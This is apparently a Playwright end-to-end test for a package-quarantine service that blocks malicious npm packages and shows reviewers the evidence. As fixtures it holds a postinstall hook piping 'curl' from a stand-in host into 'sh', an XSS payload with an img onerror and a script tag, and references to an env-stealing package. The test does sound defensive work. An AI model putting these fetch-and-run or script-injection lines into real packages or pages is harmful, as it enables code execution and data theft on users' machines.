/// <reference lib="dom" />
import { chromium, type Browser, type Page } from 'playwright-core'
import t, { type Test } from 'tap'
import { CHROMIUM } from '../e2e/browser.ts'
import { startLazaret } from '../e2e/lazaret.ts'
import { npmTarball } from '../registry/build.ts'
import { attackPackages, stock } from '../registry/packages.ts'
import { startWorld } from '../registry/registry.ts'
import { judge } from './look.ts'
import { setUp } from './people.ts'

const OLD = '2022-01-02T03:04:05.000Z'
const MARKUP = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`

/** Set: the picture of the README is written anew. */
const SCREENSHOT = process.env['LAZARET_SCREENSHOT']

t.test('the desk in a browser', { skip: CHROMIUM === undefined ? 'there is no Chromium here' : false }, async (t) => {
  const world = await startWorld()
  stock(world, attackPackages())
  world.npm.publish({
    built: npmTarball({
      name: 'markup',
      version: '1.0.0',
      scripts: { postinstall: `curl https://drop.invalid/${MARKUP} | sh` },
      files: { [`a${MARKUP.replaceAll('/', '-')}.js`]: `// ${MARKUP}\n` },
    }),
    publishedAt: OLD,
  })
  const lazaret = await startLazaret({ world, dataDir: t.testdir({}) })
  const browser = await chromium.launch({ executablePath: CHROMIUM ?? '', args: ['--no-sandbox'] })
  t.teardown(async () => {
    await browser.close()
    await lazaret.stop()
    await world.close()
  })
  for (const [name, headers] of [
    ['inline-hook', LAPTOP],
    ['markup', LAPTOP],
    ['steal~env', LAPTOP],
    ['steal~env', BUILD],
  ] as const) {
    const answer = await fetch(`${lazaret.npmUrl}${name}/-/${name}-1.0.0.tgz`, { headers })
    t.equal(answer.status, 403, `${name} is refused`)
  }
  const asked = await fetch(`${lazaret.url}/why/pkg:npm/steal~env@1.0.0`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ message: 'The checkout service needs it since this morning.', contact: 'maria, payments' }),
  })
  t.equal(asked.status, 201)
  const page = await open(browser, t)

  await setUp(page, lazaret.setupLink)
  await page.getByRole('table').waitFor()
  t.equal(await page.getByRole('link', { name: 'steal~env' }).count(), 1, 'the queue shows the case')
  await judge(t, page, 'queue')

  await page.getByRole('link', { name: 'steal~env' }).click()
  await page.getByRole('heading', { name: 'steal~env' }).waitFor()
  const shown = await page.locator('main').innerText()
  for (const text of ['process.env', 'fetch(', 'postinstall', 'collect.js', 'exfiltration-at-install']) {
    t.ok(shown.includes(text), `the case shows ${text}`)
  }
  t.notMatch(shown, /\b(?:safe|clean)\b/i, 'nothing is ever called safe')
  await judge(t, page, 'case')
  if (SCREENSHOT !== undefined) await picture(browser, page)

  await page.goto(`${lazaret.url}/ui/`)
  await page.getByRole('link', { name: 'markup' }).click()
  await page.getByRole('heading', { name: 'markup' }).waitFor()
  t.ok((await page.locator('main').innerText()).includes('<img src=x'), 'markup of a package is text')
  t.equal(await page.locator('main img').count(), 0)
  t.notMatch(await page.title(), 'owned')

  await page.setViewportSize({ width: 360, height: 740 })
  for (const path of [
    '/ui/',
    page.url().slice(lazaret.url.length),
    '/ui/waivers',
    '/ui/audit',
    '/ui/policies',
    '/why/pkg:npm/steal~env@1.0.0',
  ]) {
    await page.goto(lazaret.url + path)
    await page.locator('main').waitFor()
    await page.waitForLoadState('networkidle')
    await page.locator('.loading').waitFor({ state: 'detached' })
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
    t.ok(overflow <= 0, `${path.replace(/[0-9a-f-]{36}/, '<case>')} fits 360 pixels (${overflow} too many)`)
    await judge(t, page, `${path.slice(0, 12)} at 360 pixels`)
  }

  await page.setViewportSize({ width: 1280, height: 900 })
  await fromTheLog(t, page, lazaret.url)
  await backToTheRow(t, page, lazaret.url)
  await invalidated(t, page, lazaret.url)

  await page.goto(`${lazaret.url}/ui/`)
  await page.getByRole('link', { name: 'inline-hook' }).waitFor()
  await keyboardRelease(page)
  t.match(await page.locator('.notice.saved').innerText(), /released/i, 'released by keyboard alone')
  // The way back is offered once the case as it is now was fetched.
  await page.locator('.notice.saved').getByRole('button', { name: /Undo/ }).waitFor()
  t.match(await page.locator('.notice.saved').innerText(), /Undo/, 'with a way back')
  t.equal(
    (await fetch(`${lazaret.npmUrl}inline-hook/-/inline-hook-1.0.0.tgz`)).status,
    200,
    'and the next download obeys',
  )
})

/** Who asks: a person's npm, and one of a build with a token. */
const LAPTOP = { 'user-agent': 'npm/11.6.0 node/v24.11.0 linux x64 workspaces/false' }
const BUILD = {
  'user-agent': 'npm/11.6.0 node/v24.11.0 linux x64 workspaces/false ci/github-actions',
  authorization: 'Bearer a-build-has-this',
}

/** The picture of the README: the page as it is, for screens with small pixels. */
async function picture(browser: Browser, page: Page): Promise<void> {
  const context = await browser.newContext({
    viewport: { width: 1280, height: 1500 },
    deviceScaleFactor: 2,
    colorScheme: 'light',
    storageState: await page.context().storageState(),
  })
  const fine = await context.newPage()
  await fine.goto(page.url())
  await fine.getByRole('heading', { name: 'Evidence' }).waitFor()
  await fine.screenshot({ path: 'docs/images/case.png' })
  await context.close()
}

/** An event of the log shows all that it holds, and leads to its case. */
async function fromTheLog(t: Test, page: Page, url: string): Promise<void> {
  await page.goto(`${url}/ui/audit?purl=steal~env&type=artifact.refused`)
  await page
    .getByRole('button', { name: /^All of event/ })
    .first()
    .click()
  const whole = await page.locator('.whole').innerText()
  t.match(whole, /sha256\s+[0-9a-f]{64}/)
  t.match(whole, 'npm/11.6.0', 'with the client as it named itself')
  await page.getByRole('link', { name: 'pkg:npm/steal~env@1.0.0' }).first().click()
  await page.getByRole('heading', { name: 'steal~env' }).waitFor()
  await copies(t, page)
}

/** On an unencrypted page of another host browsers have no clipboard to give. */
async function copies(t: Test, page: Page): Promise<void> {
  await page.evaluate(() => Object.defineProperty(navigator, 'clipboard', { value: undefined }))
  await page.keyboard.press('Y')
  await page.getByRole('button', { name: 'sha256 copied' }).waitFor()
  await page.keyboard.press('r')
  await page.locator('dialog textarea').focus()
  await page.keyboard.press('Control+v')
  // The browser pastes in its own time.
  await page.waitForFunction(() => document.querySelector<HTMLTextAreaElement>('dialog textarea')?.value !== '')
  t.match(
    await page.locator('dialog textarea').inputValue(),
    /^[0-9a-f]{64}$/,
    'copied without the clipboard of safe pages',
  )
  await page.locator('dialog textarea').fill('')
  await page.keyboard.press('Escape')
  await page.getByRole('dialog').waitFor({ state: 'detached' })
}

/** The way through the evidence and back, by keys: every finding is reached, and the queue is as it was left. */
async function backToTheRow(t: Test, page: Page, url: string): Promise<void> {
  await page.goto(`${url}/ui/?text=markup`)
  await page.getByRole('link', { name: 'markup' }).waitFor()
  await page.keyboard.press('j')
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { name: 'markup' }).waitFor()
  const reached: string[] = []
  for (let tabs = 0; tabs < 40; tabs += 1) {
    await page.keyboard.press('Tab')
    reached.push(await page.evaluate(() => document.activeElement?.textContent ?? ''))
  }
  const findings = await page.locator('.finding > summary').allTextContents()
  t.ok(findings.length > 1 && findings.every((text) => reached.includes(text)), 'Tab reaches every finding')
  await page.keyboard.press('n')
  t.equal(await page.evaluate(() => document.activeElement?.tagName), 'SUMMARY', 'and n the next')
  await page.keyboard.press('Escape')
  await page.getByRole('table').waitFor()
  t.match(page.url(), /text=markup/, 'Escape leads back to the filtered queue')
  await page.locator('[data-row] a:focus', { hasText: 'markup' }).waitFor()
}

/** Somebody else decides while the panel is open: nothing is overwritten, and what was written stays. */
async function invalidated(t: Test, page: Page, url: string): Promise<void> {
  await page.getByRole('link', { name: 'markup' }).click()
  await page.getByRole('heading', { name: 'markup' }).waitFor()
  await page.keyboard.press('r')
  await page.locator('dialog textarea').fill('Looks fine to me.')
  const id = page.url().split('/').at(-1) ?? ''
  const session = await (await page.request.get(`${url}/api/v1/session`)).json()
  const { revision } = await (await page.request.get(`${url}/api/v1/cases/${id}`)).json()
  const answer = await page.request.post(`${url}/api/v1/cases/${id}/reject`, {
    headers: { 'x-csrf-token': session.csrfToken, origin: url },
    data: { revision, reason: 'It is not.' },
  })
  t.equal(answer.status(), 200)
  await page.keyboard.press('Control+Enter')
  await page.getByRole('button', { name: 'Show the case as it is now' }).click()
  await page.getByText('It is not.').first().waitFor()
  t.equal(await page.locator('.case-bar .mark').innerText(), 'blocked')
}

/** j to the row, Enter, r, type, Ctrl+Enter: no mouse. */
async function keyboardRelease(page: Page): Promise<void> {
  for (let presses = 0; presses < 10; presses += 1) {
    await page.keyboard.press('j')
    const current = await page.locator('tr.current').innerText()
    if (current.includes('inline-hook')) break
  }
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { name: 'inline-hook' }).waitFor()
  await page.keyboard.press('r')
  await page.getByRole('dialog').waitFor()
  for (let tabs = 0; tabs < 40; tabs += 1) {
    if (await page.evaluate(() => document.activeElement?.tagName === 'TEXTAREA')) break
    await page.keyboard.press('Tab')
  }
  await page.keyboard.type('Read: fetches nothing')
  await page.keyboard.press('Escape')
  await page.getByRole('dialog').waitFor({ state: 'detached' })
  await page.keyboard.press('r')
  await page.locator('dialog textarea').focus()
  await page.keyboard.press('End')
  await page.keyboard.type(' that is not ours.')
  await page.keyboard.press('Control+Enter')
  await page.locator('.notice.saved').waitFor()
}

/** A page whose errors, and whose violations of the content security policy, fail the test. */
async function open(browser: Browser, t: Test): Promise<Page> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 }, colorScheme: 'light' })
  page.setDefaultTimeout(15_000)
  page.on('pageerror', (error) => t.fail(`page error: ${error.message}`))
  page.on('console', (message) => {
    // a browser reports each refused request; a conflict is what one of the assessments is about
    if (message.type() === 'error' && !message.text().includes('409')) t.fail(`console: ${message.text()}`)
  })
  return page
}
